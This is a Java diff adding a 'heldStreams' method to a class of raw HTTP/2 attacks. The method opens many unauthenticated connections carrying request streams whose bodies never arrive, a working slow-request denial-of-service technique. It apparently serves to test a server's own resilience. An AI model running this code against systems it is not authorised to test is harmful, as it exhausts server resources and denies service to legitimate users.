@@ -187,6 +187,34 @@ final class RawAttacks {
         return answers;
     }
 
+    /** Opens streams with bodies that do not come, on many connections without a credential. */
+    static Map<String, Integer> heldStreams(Prey prey, long until, int connections, int streams) throws Exception {
+        List<RawHttp2> open = Collections.synchronizedList(new ArrayList<>());
+        byte[] headers = RawHttp2.request("POST", "/api/v1/nodes?x=" + "y".repeat(500), "");
+        try {
+            // All of them, which may take longer than the other attacks.
+            long opened = Math.max(until, System.nanoTime() + TimeUnit.SECONDS.toNanos(20));
+            Map<String, Integer> answers = Prey.repeat(FLOODS, connections, opened, thread -> {
+                RawHttp2 connection = new RawHttp2(prey);
+                open.add(connection);
+                ByteArrayOutputStream batch = new ByteArrayOutputStream();
+                for (int i = 0; i < streams; i++) {
+                    batch.writeBytes(RawHttp2.bytes(
+                            RawHttp2.HEADERS, RawHttp2.END_HEADERS, connection.nextStream(), headers));
+                }
+                connection.write(batch.toByteArray());
+                connection.flush();
+                return "held";
+            });
+            TimeUnit.NANOSECONDS.sleep(until - System.nanoTime());
+            return answers;
+        } finally {
+            for (RawHttp2 connection : open) {
+                connection.abort();
+            }
+        }
+    }
+
     static Map<String, Integer> slowHeaders(Prey prey, long until, int count) throws Exception {
         List<Socket> open = new ArrayList<>();
         Map<String, Integer> answers = new TreeMap<>();
